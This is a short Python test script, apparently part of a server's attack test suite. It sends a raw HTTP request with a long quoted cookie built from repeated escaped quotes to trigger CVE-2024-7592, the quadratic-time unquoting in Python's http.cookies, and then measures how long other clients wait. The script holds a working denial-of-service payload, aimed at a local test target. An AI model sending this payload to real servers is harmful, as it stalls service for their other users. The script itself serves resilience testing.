"""Sends one long quoted cookie, which the standard library of Python before 3.11.10 unquotes in quadratic time.

    python tests/attack/long_cookies.py [--large]

CVE-2024-7592 (http.cookies). Small: 8 KB. Large: 8, 32 and 128 KB.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from attack.target import Row, run, target

SMALL, LARGE = (8,), (8, 32, 128)


async def attack(large: bool = False) -> list[Row]:
    """Measures the longest that others wait while such a cookie is sent, for each size."""
    rows = []
    async with target() as server:
        for size in LARGE if large else SMALL:
            quoted = '\\"' * (size * 512)
            async with server.others() as others:
                head = f'GET / HTTP/1.1\r\nHost: {server.host}\r\nCookie: a="{quoted}"\r\nConnection: close\r\n\r\n'
                await server.raw(head.encode())
            rows.append(Row(f"a quoted cookie of {size} KB", "others wait at most", others.worst, "pages", 20))
    return rows


if __name__ == "__main__":
    run(lambda: attack("--large" in sys.argv))
